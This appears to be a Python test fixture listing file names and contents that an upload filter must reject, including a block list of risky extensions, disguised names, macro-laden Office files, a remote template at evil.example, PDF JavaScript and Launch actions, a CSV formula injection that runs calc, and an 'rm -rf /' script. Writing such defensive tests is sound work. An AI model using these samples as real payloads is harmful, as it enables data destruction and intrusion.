"""Names and contents that must never come in, nor be handed over to another program."""

from tests.storage.attached.made import (
    EXE,
    PDF,
    TEXT,
    office,
    one_of_each,
    opendocument,
    picture,
    relation,
    zipped,
)

GOOD = one_of_each()
VBA = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
MACRO_ENABLED = (
    '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
SCRIPT = b"#!/bin/sh\nrm -rf /\n"
SHORTCUT = b"[InternetShortcut]\r\nURL=http://example.org\r\n"
DESKTOP = b"[Desktop Entry]\nExec=calc\n"
COMMAND = b"name,score\n\"=cmd|' /C calc'!A0\",3\n"

BAD = {
    # endings that are never let in, whatever is inside
    **{
        f"evidence.{ending}": GOOD["report.pdf"]
        for ending in (
            *("exe", "com", "scr", "msi", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta"),
            *("lnk", "url", "iqy", "slk", "scf", "reg", "jar", "app", "dmg", "deb", "sh", "py"),
            *("docm", "xlsm", "xlsb", "xlam", "dotm", "pptm", "doc", "xls", "ppt", "rtf", "msg"),
            *("html", "htm", "mht", "svg", "xml", "xsl", "zip", "7z", "rar", "gz", "iso", "img"),
            *("heic", "gif", "eps", "ps", "mp4", "sroi", "chm", "desktop", "webloc", "one"),
        )
    },
    "evidence": PDF,
    ".pdf": PDF,
    "report.pdf.exe": PDF,
    "report.pdf ": PDF,
    "photo\u202egpj.exe": EXE,
    # content of another kind under an ending that is let in
    "program.pdf": EXE,
    "program.jpg": EXE,
    "program.docx": EXE,
    "program.txt": EXE,
    "page.pdf": HTML,
    "page.txt": HTML,
    "page.csv": HTML,
    "page.eml": HTML,
    "drawing.png": SVG,
    "drawing.txt": SVG,
    "link.txt": LNK,
    "link.csv": SHORTCUT,
    "starter.txt": DESKTOP,
    "script.txt": SCRIPT,
    "old.docx": OLE,
    "locked.xlsx": OLE,
    "archive.docx": zipped({"a.txt": "x"}),
    "archive.odt": zipped({"a.txt": "x"}),
    "workbook.docx": office("xlsx"),
    "document.xlsx": office("docx"),
    "text.ods": opendocument("odt"),
    "picture.pdf": picture("PNG"),
    "picture.png": picture("JPEG"),
    "document.jpg": PDF,
    "not-a-mail.eml": TEXT,
    "bits.txt": b"abc\x00def",
    "cut.docx": office("docx")[:-40],
    "empty.txt": b"",
    "empty.pdf": b"",
    # documents that do something
    "macros.docx": office("docx", {"word/vbaProject.bin": b"x"}),
    "types.docx": office("docx", types=VBA),
    "enabled.docx": office("docx", types=MACRO_ENABLED),
    "old-macros.xlsx": office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    "packed.docx": office("docx", {"word/embeddings/oleObject1.bin": b"x"}),
    "control.xlsx": office("xlsx", {"xl/activeX/activeX1.xml": "<x/>"}),
    "hidden.docx": office("docx", {"word/media/setup.exe": EXE}),
    "template.docx": office(
        "docx",
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t")},
    ),
    "share.docx": office(
        "docx", {"word/_rels/x.rels": relation("attachedTemplate", "file://host/share/t.dotm")}
    ),
    "object.docx": office(
        "docx", {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://evil!x")}
    ),
    "basic.odt": opendocument("odt", {"Basic/Standard/Module1.xml": "<x/>"}),
    "scripts.ods": opendocument("ods", {"Scripts/python/run.py": "x"}),
    "listener.odt": opendocument("odt", {"content.xml": "<script:event-listener/>"}),
    "script.pdf": PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "escaped.pdf": PDF + b"<< /S /J#61vaScript >>",
    "launch.pdf": PDF + b"<< /S /Launch /F (calc.exe) >>",
    "command.csv": COMMAND,
    "bomb.docx": office("docx", {"word/media/a.xml": b"\x00" * 30_000_000}),
    "twice.docx": zipped({"[Content_Types].xml": "x", "[content_types].xml": "y"}),
}
"""Names and contents that must not come in."""
